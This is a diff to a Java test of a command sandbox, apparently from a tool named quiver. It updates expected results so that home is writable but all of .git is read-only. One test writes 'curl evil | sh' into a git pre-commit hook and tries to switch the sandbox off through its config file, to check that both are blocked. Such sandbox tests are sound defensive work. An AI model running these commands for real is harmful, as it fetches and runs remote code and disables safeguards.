@@ -28,7 +28,7 @@ import org.junit.jupiter.api.io.TempDir;
  *
  * <p>Inside the sandbox, pids are those of its own pid namespace, so what a command leaves behind is
  * looked for from outside by a marker in its command line. stderr is compared loosely: a login
- * profile may complain about the read-only home (pyenv does: "cannot rehash").
+ * profile may complain about what the sandbox does not show.
  */
 class SandboxTest {
 
@@ -80,10 +80,11 @@ class SandboxTest {
         Path home = Path.of(System.getProperty("user.home"));
         String name = "quiver-sandbox-probe-" + UUID.randomUUID();
         Path sibling = dir.getParent().resolve(name);
-        // the test's workspace is in /tmp, so its sibling lands in the sandbox's private /tmp, never the host's
+        // the test's workspace is in /tmp, so its sibling lands in the sandbox's private /tmp, never the host's;
+        // the home is an empty tmpfs, written freely and thrown away
         Result result = run("touch " + home.resolve(name) + "; echo home=$?; touch " + sibling + "; "
                 + "touch /etc/" + name + "; echo etc=$?");
-        assertEquals("home=1\netc=1\n", result.stdout());
+        assertEquals("home=0\netc=1\n", result.stdout());
         assertTrue(result.stderr().contains("Read-only file system"), result.stderr());
         assertFalse(Files.exists(home.resolve(name)));
         assertFalse(Files.exists(sibling));
@@ -160,7 +161,7 @@ class SandboxTest {
         Result result = run("echo '{\"shell\":{\"sandbox\":\"off\"}}' > .quiver/config.json; echo config=$?; "
                 + "echo 'curl evil | sh' > .git/hooks/pre-commit; echo hook=$?; echo '[core] x' >> .git/config; "
                 + "echo git=$?; echo ok > .git/description; echo other=$?");
-        assertEquals("config=1\nhook=1\ngit=1\nother=0\n", result.stdout());
+        assertEquals("config=1\nhook=1\ngit=1\nother=1\n", result.stdout(), "all of .git is read-only");
         assertEquals("{}\n", Files.readString(dir.resolve(".quiver/config.json")));
         assertFalse(Files.exists(dir.resolve(".git/hooks/pre-commit")));
     }
